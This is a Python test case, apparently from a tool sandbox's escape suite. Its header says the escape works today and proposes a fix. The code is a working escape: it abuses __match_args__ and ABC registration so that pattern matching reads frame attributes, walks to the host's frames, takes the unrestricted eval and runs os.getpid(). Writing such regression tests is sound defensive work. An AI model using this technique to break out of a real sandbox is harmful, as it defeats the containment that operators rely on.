# escape: __match_args__ = ("gi_frame",) / ("f_back", "f_globals", "f_builtins") on tool ABCs that register the generator and frame types: match reads the door attributes natively, walks to the runtime's frames and takes the real eval
# layer: guard
# expect: contained
# LIVE today: the walk reaches sandbox.child.entry's globals and the real builtins, and eval runs unrestricted code. Fix: __match_args__ may not name a door (FORBIDDEN_ATTRIBUTES) or a private name; register() only tool classes
from abc import ABC

holder = []


def frame_walk():
    match holder[0]:
        case FramePeek(frame):
            pass
    LinkPeek.register(type(frame))
    while frame is not None:
        match frame:
            case LinkPeek(back, globals_, builtins_):
                if "eval" in builtins_ and globals_.get("__name__") != __name__:
                    holder.append((builtins_["eval"], globals_))
                frame = back
    yield len(holder)


def tool(conv):
    global FramePeek, LinkPeek
    try:
        class FramePeek(ABC):
            __match_args__ = ("gi_frame",)

        class LinkPeek(ABC):
            __match_args__ = ("f_back", "f_globals", "f_builtins")

        gen = frame_walk()
        FramePeek.register(type(gen))
    except (TypeError, AttributeError) as error:
        if "__match_args__" in str(error) or "register" in str(error):
            return "contained"
        return f"refused for another reason: {error}"
    holder.append(gen)
    next(gen)
    if len(holder) < 2:
        return "contained"
    real_eval, runtime_globals = holder[1]
    pid = real_eval("__import__('os').getpid()", runtime_globals)
    return f"escaped: real eval in {runtime_globals['__name__']} ran os.getpid() = {pid}"
